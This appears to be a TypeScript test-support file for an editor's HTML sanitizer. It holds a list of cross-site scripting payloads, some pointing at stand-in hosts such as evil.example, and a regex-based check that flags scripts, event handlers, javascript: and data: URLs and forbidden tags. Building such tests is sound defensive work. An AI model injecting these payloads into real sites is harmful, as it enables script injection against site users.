// Test support: script-injection attempts an editor might type, and the check that output is harmless.

export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p style="background:url(javascript:alert(1))">s</p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=p></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<a href="//evil.example">protocol-relative</a>',
  '<img src="https://tracker.example/p.gif">',
  '<details open ontoggle=alert(1)>',
];

/** Why the HTML is dangerous (something executable, styled or foreign in a tag), or null. Text that merely reads like code is harmless. */
export function dangerous(html: string): string | null {
  const checks: [RegExp, string][] = [
    [/<\s*script/i, 'script'], [/\son[a-z]+\s*=/i, 'event handler'], [/=\s*["']?\s*javascript:/i, 'javascript: URL'], [/=\s*["']?\s*data:/i, 'data: URL'],
    [/<\s*(iframe|object|embed|style|form|input|meta|base|svg|math|details)\b/i, 'forbidden tag'], [/\sstyle\s*=/i, 'style'], [/src="(?!\/news\/images\/)/i, 'foreign image'],
    [/href="\/\//i, 'protocol-relative link'],
  ];
  for (const [re, why] of checks) if (re.test(html)) return why;
  return null;
}
